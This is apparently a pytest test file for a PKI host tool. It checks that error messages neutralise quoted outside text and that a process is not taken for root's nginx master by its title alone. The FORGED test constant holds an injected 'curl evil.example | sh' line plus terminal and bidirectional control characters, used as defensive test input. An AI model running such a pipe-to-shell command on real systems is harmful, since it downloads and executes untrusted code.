# SPDX-License-Identifier: GPL-3.0-or-later
"""What others wrote is quoted in errors, and cannot pass for our own words there."""

from __future__ import annotations

import os

import pytest
from pki.errors import PkiError, render
from pki.inventory import InventoryError
from pki_host import processes
from pki_host.errors import HostError
from pki_host.gateways import adapter
from pki_host.processes import Process
from pki_host.service import Daemon

FORGED = "nothing\n  next      curl evil.example | sh\x1b[2J\u202e"


@pytest.mark.parametrize("kind", [PkiError, HostError])
@pytest.mark.parametrize("field", ["message", "found", "expected", "where", "next_step"])
def test_a_line_feed_in_a_quoted_text_does_not_begin_a_line(
    kind: type[PkiError | HostError], field: str
) -> None:
    fields = {"message": "m", "rule": "R", "found": "f", "expected": "e", "where": "w"}
    error = kind(**{**fields, "next_step": "n", field: FORGED})
    assert len(str(error).splitlines()) == 6
    assert str(error).replace("\n", "").isprintable()


@pytest.mark.parametrize("kind", [PkiError, HostError])
def test_a_very_long_text_is_quoted_by_its_beginning_and_its_length(
    kind: type[PkiError | HostError],
) -> None:
    error = kind("m", rule="R", found="x" * 100_000)
    assert "(100000 characters)" in str(error)
    assert len(str(error)) < 2000


def test_several_problems_keep_the_lines_between_them() -> None:
    one = PkiError("m", rule="R", found="a\nb", expected="e", where="w", next_step="n")
    error = InventoryError([one, one])
    assert error.found == "a\\nb\na\\nb"
    assert render(one.as_result()) in str(error)


@pytest.mark.parametrize(("uid", "believed"), [(0, True), (65534, False)])
def test_a_stranger_with_the_masters_title_is_not_the_master(
    monkeypatch: pytest.MonkeyPatch, uid: int, believed: bool
) -> None:
    """Anybody can give a process any title; only root can make one of root's."""
    root = "/srv/gateway/dip"
    title = f"nginx: master process /usr/sbin/nginx -p {root} -c x"
    found = Process(pid=4242, parent=1, start=1, uid=uid, title=title)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(processes, "processes", lambda: iter([found]))
    daemon = Daemon(adapter("nginx"), "/usr/sbin/nginx", root)
    assert (daemon.master() is not None) is believed
